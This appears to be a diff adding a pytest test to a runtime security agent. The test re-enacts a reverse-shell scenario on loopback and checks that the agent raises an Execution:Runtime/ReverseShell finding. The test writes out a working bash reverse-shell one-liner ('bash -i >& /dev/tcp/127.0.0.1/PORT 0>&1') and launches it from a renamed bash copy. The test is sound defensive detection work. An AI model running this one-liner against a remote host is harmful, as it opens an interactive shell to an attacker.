@@ -7,10 +7,12 @@ by the wire contract and run through the detection engine, raise the expected fi
 
 from __future__ import annotations
 
+import contextlib
 import http.server
 import json
 import os
 import shutil
+import socket
 import subprocess
 import sys
 import threading
@@ -202,3 +204,60 @@ def test_the_guardduty_testers_ptrace_check_is_process_injection(agent: RunningA
         ),
     )
     assert set(got) == {"DefenseEvasion:Runtime/ProcessInjection.Ptrace"}, (sorted(got), ev)
+
+
+def test_the_guardduty_testers_reverse_shell_is_caught(agent: RunningAgent, tmp_path: Path) -> None:
+    """The tester's scenarios/runtime/ReverseShell.sh, re-enacted on loopback: a copy of bash named
+    ``<date>-reverseShell`` runs ``-c "./<copy> -i >& /dev/tcp/127.0.0.1/PORT 0>&1"``; the listener
+    sends one command and ``exit``, so the interactive shell lives a few milliseconds. It must be an
+    Execution:Runtime/ReverseShell in every sensor mode (on audit alone the agent snapshots fds
+    0-2 when the proc connector announces the exec, before the shell is gone)."""
+    srv = socket.socket()
+    srv.bind(("127.0.0.1", 0))
+    srv.listen()
+    port = srv.getsockname()[1]
+
+    def serve() -> None:
+        conn, _ = srv.accept()
+        conn.sendall(b"true; exit\n")
+        conn.settimeout(10)
+        with contextlib.suppress(OSError):
+            while conn.recv(4096):
+                pass
+        conn.close()
+
+    t = threading.Thread(target=serve, daemon=True)
+    t.start()
+    name = f"{int(time.time())}-reverseShell"
+    copy = tmp_path / name
+    shutil.copy("/bin/bash", copy)
+    outer = subprocess.run(
+        [f"./{name}", "-c", f"./{name} -i >& /dev/tcp/127.0.0.1/{port} 0>&1"],
+        cwd=tmp_path,
+        stdin=subprocess.DEVNULL,
+        capture_output=True,
+        timeout=20,
+    )
+    t.join(timeout=10)
+    srv.close()
+    assert outer.returncode == 0, outer.stderr
+    agent.wait_for(
+        lambda e: (
+            e["kind"] == "process_exec"
+            and (e.get("process") or {}).get("file", {}).get("name") == name
+            and "-i" in (e.get("process") or {}).get("args", [])
+        ),
+        what="the interactive shell's exec",
+    )
+    got = _types(
+        agent,
+        lambda e: (
+            e["kind"] == "process_exec" and (e.get("process") or {}).get("file", {}).get("name") == name
+        ),
+    )
+    assert "Execution:Runtime/ReverseShell" in got, sorted(got)
+    shells = [e.process for e in got["Execution:Runtime/ReverseShell"]]
+    assert any(
+        "-i" in p.args and p.stdin is not None and p.stdin.remote is not None and p.stdin.remote.port == port
+        for p in shells
+    )
